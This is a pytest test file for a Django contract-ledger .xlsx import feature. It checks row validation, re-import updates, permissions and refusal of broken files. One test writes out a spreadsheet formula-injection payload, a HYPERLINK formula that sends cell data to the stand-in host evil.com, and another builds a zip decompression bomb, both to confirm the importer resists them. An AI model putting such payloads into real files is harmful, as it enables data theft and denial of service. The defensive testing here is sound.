"""Import of an existing contract ledger from .xlsx: preview, per-row errors, re-import updates."""

import datetime as dt
from decimal import Decimal
from io import BytesIO

import pytest
import upload_bombs
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from factories import make_credit_code
from openpyxl import Workbook

from sifasuo.contracts.models import Contract, ContractStatus


def ledger(rows):
    book = Workbook()
    sheet = book.active
    sheet.append(
        [
            "合同编号",
            "合同名称",
            "合同类型",
            "相对方",
            "统一社会信用代码",
            "合同金额",
            "签订日期",
            "到期日期",
        ]
    )
    for row in rows:
        sheet.append(row)
    buffer = BytesIO()
    book.save(buffer)
    return SimpleUploadedFile("台账.xlsx", buffer.getvalue())


def test_preview_lists_row_errors_and_import_updates_on_second_run(depts, login):
    code = make_credit_code()
    rows = [
        [
            "HT-001",
            "保洁服务",
            "服务合同",
            "洁美公司",
            code,
            120000,
            dt.datetime(2026, 1, 5),
            dt.datetime(2026, 12, 31),
        ],
        ["HT-002", "绿化养护", "服务合同", "园林公司", "91371102MA00000000", 5000, None, None],
        ["HT-003", "", "工程合同", "路桥公司", "", "abc", None, None],
    ]
    client = login(depts.business_clerk)
    response = client.post(
        reverse("contracts:contract_import"),
        {"department": depts.business.pk, "file": ledger(rows)},
    )
    text = response.content.decode()
    assert "统一社会信用代码校验位不正确" in text
    assert "缺少合同名称" in text
    assert "合同金额“abc”无效" in text
    assert Contract.objects.count() == 0  # preview writes nothing
    response = client.post(reverse("contracts:contract_import"), {"confirm": "1"}, follow=True)
    assert "新增 1 份，更新 0 份，2 行有错误未导入" in response.content.decode()
    contract = Contract.objects.get()
    assert contract.status == ContractStatus.SIGNED and contract.imported
    assert contract.ends_on == dt.date(2026, 12, 31)

    rows[0][5] = 150000
    client.post(
        reverse("contracts:contract_import"),
        {"department": depts.business.pk, "file": ledger(rows[:1])},
    )
    response = client.post(reverse("contracts:contract_import"), {"confirm": "1"}, follow=True)
    assert "新增 0 份，更新 1 份" in response.content.decode()
    assert Contract.objects.get().amount == Decimal("150000")


def test_wrong_file_is_refused(depts, login):
    response = login(depts.business_clerk).post(
        reverse("contracts:contract_import"),
        {
            "department": depts.business.pk,
            "file": SimpleUploadedFile("台账.xlsx", b"garbage"),
        },
    )
    assert "无法读取该 Excel 文件" in response.content.decode()
    response = login(depts.business_clerk).post(
        reverse("contracts:contract_import"),
        {
            "department": depts.business.pk,
            "file": SimpleUploadedFile("台账.csv", b"a,b"),
        },
    )
    assert "只接受 .xlsx 文件" in response.content.decode()


def test_outsider_cannot_import_into_another_office(world, depts, login):
    response = login(world.outsider).post(
        reverse("contracts:contract_import"), {"department": depts.business.pk, "file": ledger([])}
    )
    assert response.status_code == 200
    assert "选择一个有效的选项" in response.content.decode()
    assert Contract.objects.count() == 0
    assert login(world.supervisor).get(reverse("contracts:contract_import")).status_code == 403


HEADER = ["合同编号", "合同名称", "合同类型", "相对方", "统一社会信用代码", "合同金额"]


def _import(client, depts, data, name="台账.xlsx"):
    return client.post(
        reverse("contracts:contract_import"),
        {"department": depts.business.pk, "file": SimpleUploadedFile(name, data)},
    ).content.decode()


def test_a_ledger_that_unpacks_to_hundreds_of_megabytes_is_refused_cheaply(depts, login):
    bomb = upload_bombs.office_bomb(upload_bombs.xlsx([HEADER]), member="xl/sharedStrings2.xml")
    assert len(bomb) < 1024 * 1024  # well under the upload limit
    before = upload_bombs.peak_rss_mb()
    text = _import(login(depts.business_clerk), depts, bomb)
    assert "解压后过大（200 MB，上限 100 MB）或压缩比异常" in text
    assert upload_bombs.peak_rss_mb() - before < 50  # judged from the zip directory alone


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"%PDF-1.7 not a spreadsheet", "无法读取该 Excel 文件"),
        (upload_bombs.xlsx([HEADER])[:2000], "无法读取该 Excel 文件"),
        (b"PK\x03\x04" + bytes(range(256)) * 4, "无法读取该 Excel 文件"),
    ],
    ids=["wrong type", "truncated", "broken zip"],
)
def test_broken_or_wrong_ledgers_get_a_message(depts, login, data, message):
    assert message in _import(login(depts.business_clerk), depts, data)
    assert not Contract.objects.exists()


def test_formula_cells_are_not_evaluated_and_formula_text_stays_text(depts, login):
    evil = '=HYPERLINK("http://evil.example/?d="&B2,"点我")'
    book = Workbook()
    sheet = book.active
    sheet.append(HEADER)
    sheet.append(["HT-1", evil, "服务合同", "洁美公司", "", 100])
    sheet["B2"].data_type = "s"  # text that looks like a formula
    sheet.append(["HT-2", "=CONCAT(A1,A2)", "服务合同", "甲", "", "=2*3"])  # live formulas
    buffer = BytesIO()
    book.save(buffer)
    client = login(depts.business_clerk)
    text = _import(client, depts, buffer.getvalue())
    # A formula is never computed: with no value saved beside it, the row says what is missing.
    assert "缺少合同名称" in text and "合同金额“None”无效" in text
    client.post(reverse("contracts:contract_import"), {"confirm": "1"})
    assert list(Contract.objects.values_list("title", flat=True)) == [evil]


def test_an_overlong_ledger_is_refused(depts, login, monkeypatch):
    from sifasuo.contracts import importing

    monkeypatch.setattr(importing, "MAX_ROWS", 3)
    rows = [HEADER] + [[f"HT-{n}", "保洁", "服务合同", "洁美", "", 1] for n in range(5)]
    assert "台账超过 3 行，请拆分后分批导入" in _import(
        login(depts.business_clerk), depts, upload_bombs.xlsx(rows)
    )


def test_an_overlong_title_is_a_row_error(depts, login):
    data = upload_bombs.xlsx([HEADER, ["HT-1", "长" * 5000, "服务合同", "洁美", "", 1]])
    assert "合同名称超过" in _import(login(depts.business_clerk), depts, data)
